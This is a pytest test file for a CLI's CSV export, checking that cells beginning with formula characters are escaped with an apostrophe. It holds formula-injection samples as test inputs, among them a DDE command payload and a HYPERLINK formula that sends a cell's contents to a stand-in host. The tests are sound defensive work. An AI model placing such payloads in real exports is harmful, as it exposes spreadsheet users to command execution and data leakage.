"""What is exported as CSV opens in a spreadsheet without computing anything."""

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from countinghouse.cli import app, cli_output
from countinghouse.settings import Settings

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def exported(columns: list[str], rows: list[list[Any]], capsys: Any) -> list[list[str]]:
    cli_output.as_csv(columns, rows)
    return list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+49 170 1234567",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        '=HYPERLINK("http://x/?"&A1)',
        "=cmd|' /C calc'!A0",
        "\uff1d1",
        "'=1",
    ],
)
def test_fault_98_a_text_that_begins_a_formula_is_escaped(text: str, capsys: Any) -> None:
    header, row = exported([text, "n"], [[text, 1]], capsys)
    assert header == [f"'{text}", "n"]
    assert row == [f"'{text}", "1"]


def test_fault_98_numbers_stay_numbers_and_null_is_empty(capsys: Any) -> None:
    values = [-1, Decimal("-1.50"), -0.5, None, True, dt.date(2026, 3, 1), "12", "a=b", "'tis", ""]
    (_, row) = exported([f"c{n}" for n in range(len(values))], [values], capsys)
    assert row == ["-1", "-1.50", "-0.5", "", "True", "2026-03-01", "12", "a=b", "'tis", ""]


@given(text=st.text(alphabet=st.sampled_from([*FORMULAS, "'", '"', ",", "a", "1"]), max_size=8))
def test_fault_98_no_text_begins_a_formula_and_none_is_lost(text: str) -> None:
    shown = cli_output._harmless(text)
    assert not shown.startswith(FORMULAS)
    # Taking one apostrophe from whatever would else begin a formula gives the text back.
    begins = shown.startswith("'") and shown.lstrip("'").startswith(FORMULAS)
    assert (shown[1:] if begins else shown) == text


def test_fault_98_the_command_exports_a_table_so(installation: Settings) -> None:
    query = "select '=1+1' as `@text`, -5 as n, cast(-1.50 as decimal(9,2)) as amount, null as gone"
    done = CliRunner().invoke(app, ["sql", "--csv", query])
    assert done.exit_code == 0
    assert done.stdout_bytes == b"'@text,n,amount,gone\r\n'=1+1,-5,-1.50,\r\n"
    both = CliRunner().invoke(app, ["sql", "--csv", "--json", query])
    assert both.exit_code == 2
